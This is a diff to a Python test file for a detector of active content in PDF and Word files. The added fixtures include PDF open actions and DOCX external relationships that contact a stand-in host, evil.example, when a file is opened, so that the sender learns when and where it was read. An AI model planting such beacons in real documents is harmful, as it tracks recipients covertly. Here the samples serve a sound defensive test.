@@ -5,6 +5,7 @@ from __future__ import annotations
 import errno
 import io
 import os
+import random
 import re
 import zipfile
 import zlib
@@ -147,6 +148,14 @@ def with_object_stream(inside: bytes) -> bytes:
     return b"%PDF-1.7\n2 0 obj <</Type /ObjStm /N 1>> stream\n" + zlib.compress(inside) + b"\nendstream\n%%EOF\n"
 
 
+def relations(kind: bytes, target: bytes = b"http://evil.example/seen") -> bytes:
+    """Return what a letter fetches from elsewhere when it is opened: whoever sent it learns when and from where."""
+    of = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + kind
+    return b'<Relationships><Relationship Id="1" Type="%s" Target="%s" TargetMode="External"/></Relationships>' % (
+        of, target,
+    )  # fmt: skip
+
+
 @pytest.mark.parametrize(
     "data",
     [
@@ -159,11 +168,19 @@ def with_object_stream(inside: bytes) -> bytes:
         b"%PDF-1.7\n<</Type /Obj#53tm>> stream\nxx\nendstream\n%%EOF",
         b"%PDF-1.7\n<</Type /ObjStm>> stream\nnot compressed\nendstream\n%%EOF",
         docx(word__embeddings__oleObject1=b"x"),
+        PLAIN_PDF.replace(b"/Catalog", b"/Page /AA <</O <</S /URI /URI (http://evil.example/seen)>> >>"),
+        PLAIN_PDF.replace(b"/Catalog", b"/Page /AA 7 0 R"),
+        PLAIN_PDF.replace(b"/Catalog", b"/Catalog /A <</S /GoToR /F (//evil.example/a.pdf)>>"),
+        docx(word___rels__document=relations(b"image")),
+        docx(word___rels__document=relations(b"image").replace(b'"', b"'")),
+        docx(word___rels__footer1=relations(b"frame", b"http://evil.example/hyperlink")),
+        docx(word___rels__document=random.Random(1).randbytes(70_000)),
     ],
 )
 def test_active_content_is_taken_and_marked(data: bytes) -> None:
     assert kind_of(data).is_active
     assert not kind_of(with_object_stream(b"<</Type /Page>>")).is_active
+    assert not kind_of(docx(word___rels__document=relations(b"hyperlink"))).is_active
 
 
 # ---------------------------------------------------------------- kept and given out
